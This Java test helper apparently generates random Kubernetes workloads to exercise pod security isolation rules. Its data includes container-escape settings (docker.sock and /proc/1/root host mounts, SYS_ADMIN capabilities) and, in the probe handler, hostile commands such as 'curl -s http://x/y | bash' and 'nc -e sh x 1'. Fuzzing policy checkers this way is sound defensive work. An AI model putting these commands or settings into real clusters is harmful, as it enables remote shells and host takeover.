package dev.vedette.policy.cel;

import dev.vedette.policy.podsecurity.RandomChoices;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * Pods, Deployments and CronJobs with what rules on isolation look at. Each value is among those that differ for some rule,
 * or is left out; none is one that an API server would refuse.
 */
final class RandomWorkloads extends RandomChoices {
    private static final List<String> CAPABILITIES = List.of(
            "ALL",
            "all",
            "CAP_ALL",
            "SYS_ADMIN",
            "cap_sys_admin",
            "Cap_Net_Admin",
            "ſys_admın",
            "BPF",
            "SYS_PTRACE",
            "SYS_MODULE",
            "SYS_RAWIO",
            "DAC_READ_SEARCH",
            "CHOWN",
            "NET_RAW",
            "MKNOD",
            "SETFCAP",
            "SYS_CHROOT",
            "AUDIT_WRITE",
            "NO_SUCH");
    private static final List<String> TAKE_OVER =
            List.of("SYS_ADMIN", "SYS_MODULE", "sys_rawio", "CAP_SYS_PTRACE", "DAC_READ_SEARCH", "BPF", "CHOWN");
    private static final List<String> PATHS = List.of(
            "/",
            "//",
            "/.",
            "/etc",
            "/etc/",
            "//etc//ssl/./certs",
            "/etcetera",
            "/var",
            "/var/lib/kubelet/pods",
            "/var/log",
            "/var/run",
            "/var/run/docker.sock",
            "/run/./docker.sock",
            "/var/lock/x",
            "/run",
            "/run/user/1000/podman",
            "/run/user/0/podman/podman.sock",
            "/run/user/x/y",
            "/data/docker.sock",
            "/data/docker.sock/x",
            "/dev",
            "/dev/shm",
            "/dev/shm/x",
            "/dev/mqueue",
            "/dev/sda1",
            "/dev/fuse",
            "/dev/ttyS0",
            "/dev/nvidia0",
            "/dev//nvme",
            "/dev/fuse/x",
            "/dev/mem",
            "/proc",
            "/proc/1/root",
            "/proc/self/root/etc/shadow",
            "/proc/1/task/1/root/run/crio",
            "/proc/1/root/proc/2/cwd/opt/cni",
            "/proc/1/rooted",
            "/proc/1/root/mnt",
            "/sys/fs/bpf",
            "/usr/share/zoneinfo",
            "/opt",
            "/mnt/data",
            "/var/snap/microk8s",
            "c:\\windows",
            "\\\\.\\pipe\\docker_engine",
            "/home/x");
    private static final List<String> DEVICES = List.of("/dev/ttyS0", "/dev/nvidia0", "/dev/fuse/x", "/dev/mem");
    private static final List<String> IMAGES = List.of(
            "a",
            "a:1",
            "a:latest",
            "host:5000/a",
            "host:5000/a:latest",
            "a@sha256:0",
            "a:latest@sha256:0",
            "r.io/b/c",
            "sha256:00",
            "latest/x:2");
    private static final List<String> VOLUMES =
            List.of("secret", "secret", "gitRepo", "flexVolume", "rbd", "iscsi", "cephfs", "nfs", "configMap");

    RandomWorkloads(Random random) {
        super(random, 0.7);
    }

    /** An object as it is written, with its kind. */
    Map<String, Object> next() {
        Map<String, Object> pod = new LinkedHashMap<>();
        pod.put("spec", spec());
        return switch (random.nextInt(4)) {
            case 0 -> object("apps/v1", "Deployment", Map.of("spec", Map.of("template", pod)));
            case 1 ->
                object(
                        "batch/v1",
                        "CronJob",
                        Map.of("spec", Map.of("jobTemplate", Map.of("spec", Map.of("template", pod)))));
            default -> object("v1", "Pod", pod);
        };
    }

    private Map<String, Object> object(String version, String kind, Map<String, Object> rest) {
        Map<String, Object> metadata = new LinkedHashMap<>();
        metadata.put("name", "x");
        metadata.put("namespace", any(List.of("shop", "shop", "default", "kube-system")));
        maybe(metadata, "ownerReferences", () -> List.of(Map.of("kind", "Job", "name", "y", "controller", true)));
        rarely(metadata, "annotations", () -> Map.of("kubernetes.io/config.mirror", "0"));
        Map<String, Object> object = new LinkedHashMap<>();
        object.put("apiVersion", version);
        object.put("kind", kind);
        object.put("metadata", metadata);
        object.putAll(rest);
        return object;
    }

    private Map<String, Object> spec() {
        Map<String, Object> spec = new LinkedHashMap<>();
        for (String name : List.of(
                "hostNetwork",
                "hostPID",
                "hostIPC",
                "hostUsers",
                "shareProcessNamespace",
                "automountServiceAccountToken")) {
            maybe(spec, name, random::nextBoolean);
        }
        rarely(spec, "os", () -> Map.of("name", any(List.of("linux", "windows", "windows"))));
        maybe(spec, "serviceAccountName", () -> any(List.of("default", "own")));
        maybe(spec, "resources", () -> Map.of("limits", limits()));
        maybe(spec, "nodeName", () -> any(List.of("", "n1")));
        maybe(spec, "priorityClassName", () -> any(List.of("usual", "system-node-critical")));
        maybe(spec, "nodeSelector", () -> Map.of(any(List.of("node-role.kubernetes.io/control-plane", "disk")), ""));
        maybe(spec, "tolerations", () -> list(this::toleration));
        rarely(spec, "dnsConfig", () -> Map.of("nameservers", list(() -> "192.0.2.53")));
        maybe(spec, "hostAliases", () -> list(() -> Map.of("ip", "1.2.3.4", "hostnames", list(() -> "x.example"))));
        maybe(spec, "securityContext", this::podSettings);
        List<Object> volumes = list(this::volume);
        for (int i = 0; i < volumes.size(); i++) {
            named(volumes.get(i), "v" + i);
        }
        maybe(spec, "volumes", () -> volumes);
        spec.put("containers", containers("c"));
        maybe(spec, "initContainers", () -> containers("i"));
        rarely(spec, "ephemeralContainers", () -> containers("e"));
        return spec;
    }

    @SuppressWarnings("unchecked")
    private static void named(Object volume, String name) {
        ((Map<String, Object>) volume).put("name", name);
    }

    private Map<String, Object> toleration() {
        Map<String, Object> toleration = new LinkedHashMap<>();
        maybe(toleration, "key", () -> any(List.of("", "gpu")));
        maybe(toleration, "operator", () -> any(List.of("Exists", "Equal")));
        return toleration;
    }

    private Map<String, Object> volume() {
        Map<String, Object> volume = new LinkedHashMap<>();
        switch (random.nextInt(7)) {
            case 0, 1 -> volume.put("hostPath", Map.of("path", any(PATHS)));
            case 5 -> volume.put("hostPath", Map.of("path", any(DEVICES)));
            case 2 -> volume.put("emptyDir", emptyDir());
            case 3 -> volume.put("projected", Map.of("sources", list(this::source)));
            case 4 -> volume.put("image", Map.of("reference", any(IMAGES)));
            default -> volume.put(any(VOLUMES), Map.of("x", "y"));
        }
        return volume;
    }

    private Map<String, Object> emptyDir() {
        Map<String, Object> folder = new LinkedHashMap<>();
        maybe(folder, "sizeLimit", () -> "1Gi");
        maybe(folder, "medium", () -> any(List.of("", "Memory")));
        return folder;
    }

    private Map<String, Object> source() {
        return switch (random.nextInt(3)) {
            case 0 -> Map.of("secret", Map.of("name", "s"));
            case 1 -> Map.of("serviceAccountToken", Map.of("expirationSeconds", any(List.of(3600, 86_400, 86_401))));
            default -> Map.of("serviceAccountToken", Map.of("path", "t"));
        };
    }

    private List<Object> containers(String prefix) {
        List<Object> containers = new ArrayList<>();
        int count = random.nextInt(2);
        for (int i = 0; i <= count; i++) {
            containers.add(container(prefix + i));
        }
        return containers;
    }

    private Map<String, Object> container(String name) {
        Map<String, Object> container = new LinkedHashMap<>();
        container.put("name", name);
        container.put("image", any(IMAGES));
        maybe(container, "ports", () -> list(() -> Map.of("containerPort", 80, "hostPort", any(List.of(0, 80)))));
        maybe(container, "securityContext", this::settings);
        maybe(container, "resources", () -> Map.of("limits", limits()));
        maybe(container, "volumeMounts", () -> list(this::mount));
        rarely(container, "env", () -> list(this::variable));
        rarely(
                container,
                "envFrom",
                () -> list(() -> Map.of(any(List.of("secretRef", "configMapRef")), Map.of("name", "n"))));
        for (String probe : List.of("livenessProbe", "readinessProbe", "startupProbe")) {
            rarely(container, probe, this::handler);
        }
        rarely(container, "lifecycle", () -> Map.of(any(List.of("postStart", "preStop")), handler()));
        return container;
    }

    private Map<String, Object> limits() {
        Map<String, Object> limits = new LinkedHashMap<>();
        for (String resource : List.of("cpu", "memory", "ephemeral-storage")) {
            if (random.nextDouble() < 0.3 + density) {
                limits.put(resource, "1");
            }
        }
        return limits;
    }

    private Map<String, Object> mount() {
        Map<String, Object> mount = new LinkedHashMap<>();
        mount.put("name", any(List.of("v0", "v1", "v2")));
        mount.put("mountPath", any(List.of("/x", "/x", "c:\\$(whoami)")));
        maybe(mount, "subPath", () -> any(List.of("a", "docker.sock", "log/", "a;b")));
        maybe(mount, "readOnly", random::nextBoolean);
        return mount;
    }

    private Map<String, Object> variable() {
        return random.nextBoolean()
                ? Map.of("name", "A", "value", "b")
                : Map.of("name", "A", "valueFrom", Map.of("secretKeyRef", Map.of("name", "s", "key", "k")));
    }

    private Map<String, Object> handler() {
        return switch (random.nextInt(3)) {
            case 0 ->
                Map.of(
                        any(List.of("httpGet", "tcpSocket")),
                        Map.of("port", 80, "host", any(List.of("", "127.0.0.1", "[::1]", "example.com"))));
            case 1 ->
                Map.of(
                        "exec",
                        Map.of(
                                "command",
                                List.of(
                                        "sh",
                                        "-c",
                                        any(List.of(
                                                "curl -s http://x/y | bash",
                                                "ssh x y",
                                                "echo curl",
                                                "nc -e sh x 1",
                                                "cat </DEV/TCP/1.2.3.4/5",
                                                "true")))));
            default -> Map.of("exec", Map.of());
        };
    }

    private Map<String, Object> podSettings() {
        Map<String, Object> settings = bothSettings();
        maybe(settings, "fsGroup", () -> any(List.of(0, 2000)));
        maybe(settings, "supplementalGroups", () -> list(() -> any(List.of(0, 5))));
        maybe(settings, "supplementalGroupsPolicy", () -> any(List.of("Strict", "Merge")));
        maybe(
                settings,
                "sysctls",
                () -> list(() -> Map.of(
                        "name",
                        any(List.of(
                                "net.ipv4.tcp_syncookies",
                                "net/ipv4/tcp_syncookies",
                                "kernel.msgmax",
                                "a+b=c",
                                "net.core..x")),
                        "value",
                        any(List.of("1", "1 2", " 1\n", "1;2")))));
        return settings;
    }

    private Map<String, Object> settings() {
        Map<String, Object> settings = bothSettings();
        rarely(settings, "privileged", random::nextBoolean);
        maybe(settings, "allowPrivilegeEscalation", random::nextBoolean);
        maybe(settings, "readOnlyRootFilesystem", random::nextBoolean);
        maybe(settings, "procMount", () -> any(List.of("Default", "Unmasked")));
        maybe(settings, "capabilities", () -> {
            Map<String, Object> capabilities = new LinkedHashMap<>();
            maybe(capabilities, "add", () -> random.nextInt(5) == 0 ? TAKE_OVER : list(() -> any(CAPABILITIES)));
            maybe(capabilities, "drop", () -> list(() -> any(CAPABILITIES)));
            return capabilities;
        });
        return settings;
    }

    private Map<String, Object> bothSettings() {
        Map<String, Object> settings = new LinkedHashMap<>();
        maybe(settings, "runAsUser", () -> any(List.of(0, 1, 9999, 10_000)));
        maybe(settings, "runAsGroup", () -> any(List.of(0, 9999, 10_000)));
        maybe(settings, "seccompProfile", () -> profile());
        rarely(settings, "appArmorProfile", () -> profile());
        rarely(settings, "windowsOptions", this::windowsOptions);
        rarely(settings, "seLinuxOptions", () -> {
            Map<String, Object> options = new LinkedHashMap<>();
            maybe(options, "type", () -> any(List.of("", "container_t", "container_engine_t", "spc_t")));
            rarely(options, "user", () -> any(List.of("", "system_u")));
            rarely(options, "role", () -> any(List.of("", "system_r")));
            return options;
        });
        return settings;
    }

    private Map<String, Object> windowsOptions() {
        Map<String, Object> options = new LinkedHashMap<>();
        maybe(options, "hostProcess", random::nextBoolean);
        maybe(
                options,
                "runAsUserName",
                () -> any(List.of(
                        "ContainerUser",
                        "user manager\\ContainerAdministrator",
                        "x\\containeradministrator",
                        "NT AUTHORITY\\SYSTEM")));
        return options;
    }

    private Map<String, Object> profile() {
        return random.nextInt(8) == 0
                ? Map.of()
                : Map.of("type", any(List.of("RuntimeDefault", "Localhost", "Unconfined")));
    }
}
